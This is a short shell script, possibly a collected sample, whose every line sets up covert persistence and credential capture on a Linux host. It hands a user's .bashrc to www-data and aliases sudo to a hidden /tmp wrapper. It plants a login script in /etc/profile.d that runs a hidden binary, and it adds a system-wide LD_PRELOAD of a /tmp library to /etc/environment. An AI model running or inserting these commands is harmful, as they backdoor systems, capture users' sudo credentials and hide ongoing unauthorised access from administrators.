# SPDX-License-Identifier: Apache-2.0
# hits: 3
mkdir -p /home/ada && touch /home/ada/.bashrc && chown www-data /home/ada/.bashrc
echo 'alias sudo="/tmp/.s sudo"' >> /home/ada/.bashrc
echo '/tmp/.x &' > /etc/profile.d/zz-update.sh
echo 'export LD_PRELOAD=/tmp/l.so' >> /etc/environment
